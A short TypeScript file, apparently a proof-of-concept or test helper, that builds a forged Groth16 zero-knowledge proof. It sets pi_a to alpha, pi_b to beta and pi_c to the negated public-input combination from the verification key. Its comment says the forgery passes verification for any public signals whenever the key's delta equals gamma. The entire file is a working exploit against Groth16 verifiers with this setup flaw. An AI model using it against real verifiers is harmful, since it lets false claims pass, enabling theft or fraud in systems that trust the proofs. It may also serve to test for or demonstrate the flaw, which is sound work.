import { buildBn128 } from 'ffjavascript'

type KeyJson = Record<string, unknown>

/** A = α, B = β, C = −vk_x: satisfies the Groth16 equation for any public signals when δ = γ. */
export async function forgedProof(vkey: KeyJson, publicSignals: readonly string[]): Promise<unknown> {
  const { G1 } = await buildBn128(true)
  const [constant, ...rest] = (vkey.IC as string[][]).map((point) => G1.fromObject(point.map(BigInt)))
  const sum = rest.reduce(
    (partial, point, i) => G1.add(partial, G1.timesScalar(point, BigInt(publicSignals[i]!))),
    constant!,
  )
  const c = G1.toObject(G1.toAffine(G1.neg(sum))) as bigint[]
  return {
    protocol: 'groth16',
    curve: 'bn128',
    pi_a: vkey.vk_alpha_1,
    pi_b: vkey.vk_beta_2,
    pi_c: c.map(String),
  }
}
